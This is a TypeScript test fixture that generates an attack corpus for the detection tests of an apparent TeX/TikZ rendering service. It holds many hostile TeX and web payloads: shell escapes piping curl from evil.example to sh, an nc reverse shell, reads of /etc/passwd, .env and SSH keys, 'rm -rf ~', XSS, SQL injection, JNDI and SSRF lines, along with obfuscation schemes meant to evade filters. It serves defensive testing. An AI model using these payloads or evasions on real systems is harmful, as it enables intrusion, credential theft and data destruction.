// The attack corpus, generated: every TeX payload family x every obfuscation the TeX normaliser claims to
// see through (or the rules refuse), every web payload family x its encodings, and every body encoding
// (JSON with plain or escaped keys, \u escapes, percent-encoding inside strings; forms with escaped keys,
// double encoding). Used by the engine-level and the HTTP detection tests.

export interface TexPayload {
  readonly family: string;
  readonly name: string;
  /** `cs`: obfuscations rewrite the control sequence `key`; `text`: they rewrite the characters of `key`. */
  readonly kind: 'cs' | 'text';
  readonly key: string;
  readonly before?: string;
  readonly after: string;
}

const P = (family: string, name: string, kind: 'cs' | 'text', key: string, after: string, before = ''): TexPayload => ({
  family,
  name,
  kind,
  key,
  before,
  after,
});

/**
 * Resource-exhaustion payloads whose work one literal decides (a range's end, a sample count, a bound in a
 * macro, nested ranges): the cost estimate refuses them (422 `cost:`), the signatures' rules only score them.
 */
export const COST_PAYLOADS: ReadonlySet<string> = new Set([
  'foreach-huge',
  'samples-huge',
  'macro-range',
  'nested-foreach',
]);

/**
 * A big literal and nothing that multiplies it: a cost input the signatures score, not an attack by itself
 * (TeX stops at "Dimension too large" in a fraction of a second). Its obfuscations may still be refused.
 */
export const SCORED_ONLY: ReadonlySet<string> = new Set(['huge-dimension']);

export const TEX_PAYLOADS: readonly TexPayload[] = [
  // running programs
  P('shell-escape', 'write18-curl', 'cs', 'write', '18{curl -s http://evil.example/x | sh}', '\\immediate'),
  P('shell-escape', 'write18-spaced', 'cs', 'write', ' 18 {id > /tmp/pwned}', '\\immediate'),
  P('shell-escape', 'shellescape', 'cs', 'ShellEscape', '{nc -e /bin/sh evil.example 4444}'),
  P('shell-escape', 'directlua', 'cs', 'directlua', '{os.execute("id")}'),
  P('shell-escape', 'luaexec', 'cs', 'luaexec', '{tex.print(io.popen("cat /etc/passwd"):read("*a"))}'),
  P('shell-escape', 'latelua', 'cs', 'latelua', "{os.execute('rm -rf ~')}"),
  P('shell-escape', 'pipe-input', 'cs', 'input', '|"curl evil.example/x|sh"'),
  P('shell-escape', 'pipe-openin', 'cs', 'openin', '5=|"ls -la /" \\read5 to\\x \\x'),
  P('shell-escape', 'gnuplot-function', 'text', 'function', '\\draw plot function {system("id")};'),
  P('shell-escape', 'pgfplots-gnuplot', 'text', 'gnuplot', '\\begin{axis}\\addplot gnuplot [id=x] {x**2};\\end{axis}'),
  P('shell-escape', 'package-minted', 'cs', 'usepackage', '{minted}'),
  P('shell-escape', 'package-shellesc', 'cs', 'usepackage', '{shellesc}'),
  P('shell-escape', 'tikz-external', 'cs', 'tikzexternalize', '[system call={sh evil.sh}]'),
  // reading files
  P('file-read', 'input-passwd', 'cs', 'input', '{/etc/passwd}'),
  P('file-read', 'input-dotenv', 'cs', 'input', '{../.env}'),
  P('file-read', 'input-bare-dotenv', 'cs', 'input', ' .env'),
  P('file-read', 'include-environ', 'cs', 'include', '{/proc/self/environ}'),
  P('file-read', 'inputiffileexists', 'cs', 'InputIfFileExists', '{/etc/hostname}{}{}'),
  P('file-read', 'openin-read', 'cs', 'openin', '\\f=/etc/shadow \\read\\f to\\line \\line'),
  P('file-read', 'verbatiminput', 'cs', 'verbatiminput', '{/root/.ssh/id_rsa}'),
  P('file-read', 'lstinputlisting', 'cs', 'lstinputlisting', '{../../app/config.yaml}'),
  P('file-read', 'includegraphics', 'cs', 'includegraphics', '{/var/lib/secret.png}'),
  P('file-read', 'catchfile', 'cs', 'CatchFileDef', '{\\x}{/etc/passwd}{}\\x'),
  P('file-read', 'input-path-macro', 'cs', 'input@path', '{{/etc/}}\\input{passwd}', '\\makeatletter\\def'),
  P('file-read', 'input-secret-name', 'cs', 'input', '{secrets}'),
  P('file-read', 'table-passwd', 'text', 'passwd', '\\begin{axis}\\addplot table {/etc/passwd};\\end{axis}'),
  P('file-read', 'plot-file-parent', 'text', 'secret', '\\draw plot file {../secret.dat};'),
  // writing files
  P(
    'file-write',
    'openout',
    'cs',
    'openout',
    '5=out.svg \\immediate\\write5{<svg onload=alert(1)>}\\immediate\\closeout5',
    '\\immediate',
  ),
  P('file-write', 'newwrite', 'cs', 'newwrite', '\\f \\immediate\\openout\\f=../../www/index.html'),
  P(
    'file-write',
    'filecontents',
    'text',
    'filecontents',
    '\\begin{filecontents}{evil.tex}\\relax\\end{filecontents}\\input{evil}',
  ),
  // raw output
  P('output-injection', 'dvisvgm-raw', 'cs', 'special', '{dvisvgm:raw <script>alert(document.cookie)</script>}'),
  P('output-injection', 'ps-special', 'cs', 'special', '{ps: (/etc/passwd) run}'),
  P('output-injection', 'html-special', 'cs', 'special', '{html:<img src=x onerror=alert(1)>}'),
  P('output-injection', 'pgfsys-invoke', 'cs', 'pgfsys@invoke', '{<script>alert(1)</script>}', '\\makeatletter'),
  P(
    'output-injection',
    'pgfsys-protocol',
    'cs',
    'pgfsysprotocol@literal',
    '{<foreignObject><iframe src="x"/></foreignObject>}',
    '\\makeatletter',
  ),
  P('output-injection', 'href-javascript', 'text', 'javascript', '\\href{javascript:alert(1)}{click me}'),
  P('output-injection', 'node-href', 'text', 'javascript', '\\node[href={javascript:fetch("//evil")}] {x};'),
  P('output-injection', 'pdfobj-js', 'cs', 'pdfobj', '{<< /S /JavaScript /JS (app.alert(1)) >>}'),
  // resource exhaustion
  P('resource-exhaustion', 'recursion', 'cs', 'def', '\\boom{\\boom\\boom}\\boom'),
  P(
    'resource-exhaustion',
    'foreach-huge',
    'text',
    '100000000',
    '\\foreach \\x in {1,...,100000000} {\\node at (\\x,0) {};}',
  ),
  P(
    'resource-exhaustion',
    'samples-huge',
    'text',
    '10000000',
    '\\draw[domain=0:1,samples=10000000] plot (\\x,{sin(\\x r)});',
  ),
  P('resource-exhaustion', 'endless-loop', 'cs', 'loop', '\\iftrue\\repeat'),
  P('resource-exhaustion', 'romannumeral', 'cs', 'romannumeral', ' 2000000000'),
  P(
    'resource-exhaustion',
    'macro-range',
    'text',
    '100000000',
    '\\def\\n{100000000}\\foreach \\x in {1,...,\\n} {\\fill (\\x,0) circle (1pt);}',
  ),
  P('output-injection', 'entity-href', 'text', 'avascript', '\\href{&#106;avascript:alert(1)}{x}'),
  P('file-read', 'endlinechar-backslash', 'text', 'input', '\\endlinechar=92 \\relax\ninput{/etc/passwd}'),
  P('resource-exhaustion', 'mutual-recursion', 'text', 'y', '\\def\\gwping{x\\gwpong}\\def\\gwpong{y\\gwping}\\gwping'),
  P(
    'resource-exhaustion',
    'nested-foreach',
    'text',
    '5000',
    '\\foreach \\x in {1,...,5000} {\\foreach \\y in {1,...,5000} {\\fill (\\x,\\y) circle (1pt);}}',
  ),
  P('resource-exhaustion', 'huge-dimension', 'text', '999999', '\\draw (0,0) rectangle (999999cm,1cm);'),
  P(
    'resource-exhaustion',
    'billion-laughs',
    'text',
    'aaaaaaaa',
    '\\def\\la{aaaaaaaaaa}\\def\\lb{\\la\\la\\la\\la\\la\\la\\la\\la\\la\\la}\\def\\lc{\\lb\\lb\\lb\\lb\\lb\\lb\\lb\\lb\\lb\\lb}\\lc',
  ),
];

const hex2 = (c: string) => c.charCodeAt(0).toString(16).padStart(2, '0');
const carets = (s: string) => [...s].map((c) => `^^${hex2(c)}`).join('');
const isLetters = (s: string) => /^[a-z]+$/.test(s);

/** Ways to spell `\cs` that TeX reads as `\cs` (or that build it in ways refused on sight). */
export const CS_OBFUSCATIONS: Readonly<Record<string, (cs: string, after: string) => string | null>> = {
  plain: (cs, a) => `\\${cs}${a}`,
  'caret-first-letter': (cs, a) => `\\^^${hex2(cs[0]!)}${cs.slice(1)}${a}`,
  'caret-backslash': (cs, a) => `^^5c${cs}${a}`,
  'caret-everything': (cs, a) => `${carets('\\' + cs)}${a}`,
  'caret-c-form': (cs, a) => `^^\u001c${cs}${a}`,
  'caret-four': (cs, a) => `^^^^005c${cs}${a}`,
  'caret-nested': (cs, a) => `^^5e^5c${cs}${a}`,
  'comment-split': (cs, a) => `\\${cs}%  a comment hiding the gap\n   ${a}`,
  whitespace: (cs, a) => `\\${cs}  \n\t  ${a}`,
  csname: (cs, a) => `\\csname ${cs}\\endcsname${a}`,
  'let-alias': (cs, a) => `\\let\\gwfoo=\\${cs} \\gwfoo${a}`,
  'let-chain': (cs, a) => `\\let\\gwa\\${cs}\\let\\gwb\\gwa \\gwb${a}`,
  'def-alias': (cs, a) => `\\def\\gwfoo{\\${cs}}\\gwfoo${a}`,
  'def-lazy': (cs, a) => `\\def\\gwfoo{\\gwbar}\\let\\gwbar\\${cs}\\gwfoo${a}`,
  newcommand: (cs, a) => `\\newcommand{\\gwfoo}{\\${cs}}\\gwfoo${a}`,
  'expandafter-let-csname': (cs, a) => `\\expandafter\\let\\expandafter\\gwfoo\\csname ${cs}\\endcsname\\gwfoo${a}`,
  'lowercase-csname': (cs, a) => (isLetters(cs) ? `\\lowercase{\\csname ${cs.toUpperCase()}\\endcsname}${a}` : null),
  'begin-environment': (cs, a) => `\\begin{${cs}}${a}\\end{${cs}}`,
  nameuse: (cs, a) => `\\makeatletter\\@nameuse{${cs}}${a}`,
  'dynamic-csname': (cs, a) => `\\def\\gwpart{${cs.slice(2)}}\\csname ${cs.slice(0, 2)}\\gwpart\\endcsname${a}`,
  'gobble-string': (cs, a) => `\\makeatletter\\expandafter\\csname\\expandafter\\@gobble\\string\\${cs}\\endcsname${a}`,
  'catcode-escape': (cs, a) => `\\catcode\`\\|=0 |${cs}${a}`,
  scantokens: (cs, a) => `\\scantokens{\\${cs}${a}}`,
  'newcommand-star': (cs, a) => `\\newcommand*{\\gwfoo}{\\${cs}}\\gwfoo${a}`,
  'group-global-let': (cs, a) => `{\\global\\let\\gwfoo\\${cs}}\\gwfoo${a}`,
  'firstofone-braces': (cs, a) => `\\makeatletter\\@firstofone{\\${cs}}${a}`,
  'nul-in-csname': (cs, a) => `\\csname ${cs[0]}\u0000${cs.slice(1)}\\endcsname${a}`,
  'formfeed-alias': (cs, a) => `\\let\f\\${cs} \f${a}`,
  'active-tilde': (cs, a) => `\\let~\\${cs}~${a}`,
};

/** Ways to spell characters of a text payload's key. */
export const TEXT_OBFUSCATIONS: Readonly<Record<string, (text: string, key: string) => string | null>> = {
  plain: (t) => t,
  'comment-split': (t, k) => t.replace(k, `${k.slice(0, k.length >> 1)}%\n${k.slice(k.length >> 1)}`),
  'caret-letters': (t, k) => t.replace(k, carets(k)),
  'caret-one': (t, k) => t.replace(k, `${k.slice(0, -1)}^^${hex2(k.at(-1)!)}`),
  'leading-comment': (t) => `% harmless looking picture\n\\begin{tikzpicture}\\end{tikzpicture}%\n${t}`,
};

/** Text put in front of a whole payload, after which TeX still runs it but a naive reader sees a comment. */
export const PREFIX_OBFUSCATIONS: Readonly<Record<string, string>> = {
  'after-verb-percent': '\\verb|%|',
  'after-url-percent': '\\url{%}',
  'after-href-percent': '\\href{%}{x}',
  'after-verbatim-percent': '\\begin{verbatim}%\\end{verbatim}',
  'percent-made-other': '\\catcode`\\%=12 %',
  'percent-made-other-makeother': '\\makeatletter\\@makeother\\%%',
};

export interface TexAttack {
  readonly id: string;
  readonly family: string;
  readonly obfuscation: string;
  readonly tex: string;
}

export function texAttacks(): TexAttack[] {
  const out: TexAttack[] = [];
  for (const p of TEX_PAYLOADS) {
    const table = p.kind === 'cs' ? CS_OBFUSCATIONS : TEXT_OBFUSCATIONS;
    for (const [name, f] of Object.entries(table)) {
      const body =
        p.kind === 'cs'
          ? (f as (cs: string, a: string) => string | null)(p.key, p.after)
          : (f as (t: string, k: string) => string | null)(p.after, p.key);
      if (body === null) continue;
      out.push({
        id: `${p.family}/${p.name}/${name}`,
        family: p.family,
        obfuscation: name,
        tex: `${p.before ?? ''}${body}`,
      });
    }
    const plain = `${p.before ?? ''}${p.kind === 'cs' ? `\\${p.key}${p.after}` : p.after}`;
    for (const [name, prefix] of Object.entries(PREFIX_OBFUSCATIONS)) {
      out.push({ id: `${p.family}/${p.name}/${name}`, family: p.family, obfuscation: name, tex: `${prefix}${plain}` });
    }
  }
  return out;
}

export interface Encoded {
  readonly encoding: string;
  readonly contentType: string;
  readonly body: string;
}

const uEscape = (s: string) => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

/** How a TeX payload travels in the `tikz_code` field. */
export const BODY_ENCODINGS: Readonly<Record<string, (tex: string) => Encoded>> = {
  json: (t) => ({ encoding: 'json', contentType: 'application/json', body: JSON.stringify({ tikz_code: t }) }),
  'json-escaped-key': (t) => ({
    encoding: 'json-escaped-key',
    contentType: 'application/json',
    body: `{"${uEscape('tikz_code')}":${JSON.stringify(t)}}`,
  }),
  'json-u-escapes': (t) => ({
    encoding: 'json-u-escapes',
    contentType: 'application/json',
    body: `{"tikz_code":"${uEscape(t)}"}`,
  }),
  'json-percent': (t) => ({
    encoding: 'json-percent',
    contentType: 'application/json',
    body: JSON.stringify({
      tikz_code: t.replace(/[\\{}%^|]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`),
    }),
  }),
  'json-with-title': (t) => ({
    encoding: 'json-with-title',
    contentType: 'application/json; charset=utf-8',
    body: JSON.stringify({ title: 'A diagram', tikz_code: t, format: 'svg' }),
  }),
  'json-array-split': (t) => ({
    encoding: 'json-array-split',
    contentType: 'application/json',
    body: JSON.stringify({ tikz_code: [t.slice(0, t.length >> 1), t.slice(t.length >> 1)] }),
  }),
  form: (t) => ({
    encoding: 'form',
    contentType: 'application/x-www-form-urlencoded',
    body: `tikz_code=${encodeURIComponent(t)}`,
  }),
  'form-escaped-key': (t) => ({
    encoding: 'form-escaped-key',
    contentType: 'application/x-www-form-urlencoded',
    body: `tikz%5Fcode=${encodeURIComponent(t)}`,
  }),
  'form-double': (t) => ({
    encoding: 'form-double',
    contentType: 'application/x-www-form-urlencoded',
    body: `title=x&tikz_code=${encodeURIComponent(encodeURIComponent(t))}`,
  }),
};

export interface WebPayload {
  readonly family: string;
  readonly text: string;
}

export const WEB_PAYLOADS: readonly WebPayload[] = [
  { family: 'xss', text: '<script>alert(document.cookie)</script>' },
  { family: 'xss', text: '<img src=x onerror=alert(1)>' },
  { family: 'xss', text: '<svg/onload=fetch("//evil")>' },
  { family: 'xss', text: 'javascript:alert(1)' },
  { family: 'xss', text: '<iframe srcdoc="<script>alert(1)</script>">' },
  { family: 'sqli', text: "' OR '1'='1" },
  { family: 'sqli', text: '1 UNION ALL SELECT username, password FROM users--' },
  { family: 'sqli', text: "1'; DROP TABLE diagrams;--" },
  { family: 'sqli', text: '1 AND SLEEP(5)' },
  { family: 'sqli', text: "x' AND extractvalue(1,concat(0x7e,(SELECT @@version)))--" },
  { family: 'command-injection', text: '; cat /etc/passwd' },
  { family: 'command-injection', text: '$(curl -s http://evil.example/x|sh)' },
  { family: 'command-injection', text: '| nc evil.example 4444 -e /bin/sh' },
  { family: 'command-injection', text: '`whoami`' },
  { family: 'command-injection', text: 'x && wget http://evil.example/a -O /tmp/a' },
  { family: 'path-traversal', text: '../../../../etc/passwd' },
  { family: 'path-traversal', text: '..\\..\\windows\\win.ini' },
  { family: 'path-traversal', text: '/proc/self/environ' },
  { family: 'path-traversal', text: 'file:///etc/shadow' },
  { family: 'protocol', text: '${jndi:ldap://evil.example/a}' },
  { family: 'protocol', text: "{{ ''.__class__.__mro__[1].__subclasses__() }}" },
  { family: 'protocol', text: 'http://169.254.169.254/latest/meta-data/iam/' },
];

const htmlEntities = (s: string) => s.replace(/[<>:'"]/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`);

export const WEB_OBFUSCATIONS: Readonly<Record<string, (s: string) => string>> = {
  plain: (s) => s,
  'percent-encoded': (s) => encodeURIComponent(s),
  'double-percent': (s) => encodeURIComponent(encodeURIComponent(s)),
  'html-entities': htmlEntities,
  fullwidth: (s) => s.replace(/[<>'/]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  'mixed-case': (s) => [...s].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join(''),
};

export interface WebAttack {
  readonly id: string;
  readonly family: string;
  /** Where it travels: a non-code JSON field, a form field, or the query string. */
  readonly where: 'json-title' | 'form-title' | 'query';
  readonly contentType: string;
  readonly body: string;
  readonly query: string;
}

export function webAttacks(): WebAttack[] {
  const out: WebAttack[] = [];
  const code = '\\begin{tikzpicture}\\draw (0,0) -- (1,1);\\end{tikzpicture}';
  WEB_PAYLOADS.forEach((p, i) => {
    for (const [name, f] of Object.entries(WEB_OBFUSCATIONS)) {
      // Shells, file systems and Python attributes are case-sensitive: mixed case is no attack there.
      if (name === 'mixed-case' && p.family !== 'xss' && p.family !== 'sqli') continue;
      const v = f(p.text);
      const id = `${p.family}/${i}/${name}`;
      out.push({
        id: `${id}/json-title`,
        family: p.family,
        where: 'json-title',
        contentType: 'application/json',
        body: JSON.stringify({ title: v, tikz_code: code }),
        query: '',
      });
      out.push({
        id: `${id}/form-title`,
        family: p.family,
        where: 'form-title',
        contentType: 'application/x-www-form-urlencoded',
        body: `title=${encodeURIComponent(v)}&tikz_code=${encodeURIComponent(code)}`,
        query: '',
      });
      out.push({
        id: `${id}/query`,
        family: p.family,
        where: 'query',
        contentType: 'application/json',
        body: JSON.stringify({ tikz_code: code }),
        query: `q=${encodeURIComponent(v)}`,
      });
    }
  });
  return out;
}
